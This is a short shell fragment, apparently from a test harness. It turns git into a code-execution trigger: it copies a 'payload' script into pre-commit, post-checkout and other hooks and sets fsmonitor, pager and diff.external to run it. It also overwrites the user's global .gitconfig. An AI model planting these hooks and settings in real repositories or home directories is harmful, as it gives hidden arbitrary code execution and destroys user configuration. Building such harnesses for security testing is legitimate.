# class: git
# Hooks, a file system monitor, filters and aliases of git run a program in any command of the tests.
mkdir -p .git/hooks "$HOME"
{ echo '#!/bin/sh'; payload; } > .git/run.sh; chmod +x .git/run.sh
for hook in pre-commit post-checkout post-commit pre-push post-merge fsmonitor-watchman; do cp .git/run.sh .git/hooks/$hook; done
printf '[core]\n\tfsmonitor = "%s/.git/run.sh"\n\tpager = "%s/.git/run.sh"\n[diff]\n\texternal = "%s/.git/run.sh"\n' "$PWD" "$PWD" "$PWD" | tee -a .git/config > "$HOME/.gitconfig"
